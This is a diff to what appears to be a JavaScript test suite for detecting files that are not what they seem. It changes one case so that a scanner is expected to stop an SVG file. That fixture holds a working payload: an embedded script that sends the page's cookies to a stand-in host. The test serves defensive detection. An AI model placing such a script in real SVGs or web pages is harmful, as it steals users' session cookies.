@@ -49,8 +49,8 @@ describe('files that are not what they seem', () => {
       },
     ],
     [
-      'a script in an SVG',
-      'noted',
+      'a script in an SVG that gives the cookies of a page away',
+      'stopped',
       { 'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://collect.zz/"+document.cookie)</script></svg>\n' },
     ],
     [
